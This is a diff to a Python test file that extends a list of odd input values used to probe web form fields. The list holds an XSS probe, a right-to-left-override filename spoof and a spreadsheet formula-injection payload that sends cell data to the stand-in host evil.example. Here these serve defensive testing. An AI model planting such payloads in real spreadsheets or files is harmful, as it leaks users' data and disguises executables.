@@ -28,6 +28,11 @@ ODD_VALUES = [
     "<script>alert(1)</script>",
     "长" * 5000,
     "a,b;c\t\"d'",
+    "\u200b\u200d\u2060\ufeff\u00ad",
+    "报告\u202egpj.exe",
+    "\x07\x1b[31m\x7f\x85",
+    "第一行\r\n第二行",
+    '=HYPERLINK("http://evil.example/?"&A2,"点击查看")',
 ]
 _FIELD = re.compile(r'<(?:input|select|textarea)\b[^>]*\bname="([^"]+)"[^>]*>', re.S)
 _TYPE = re.compile(r'\btype="([^"]+)"')
